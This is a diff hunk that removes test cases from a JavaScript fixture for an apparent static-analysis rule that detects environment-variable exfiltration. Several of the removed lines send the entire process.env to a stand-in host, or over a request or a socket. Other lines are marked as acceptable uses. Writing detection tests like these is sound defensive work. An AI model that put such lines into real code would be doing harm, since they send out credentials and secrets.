@@ -22,18 +22,6 @@ function handlers(app) {
 }
 
 function steal(req) {
-  // ruleid: js.exfiltration.env-sent
-  fetch('https://collect.example.invalid', { method: 'POST', body: JSON.stringify(process.env) });
-  // ruleid: js.exfiltration.env-sent
-  req.write(JSON.stringify(process.env));
-  // ruleid: js.exfiltration.env-sent
-  socket.emit('hello', { ...process.env, host: 'x' });
-  // ok: js.exfiltration.env-sent
-  fetch('https://api.example.com', { headers: { token: process.env.API_TOKEN } });
-  // ok: js.exfiltration.env-sent
-  console.log(JSON.stringify(process.env));
-  // ok: js.exfiltration.env-sent
-  req.write(JSON.stringify({ mode: process.env.NODE_ENV }));
 }
 
 function tlsOptions() {
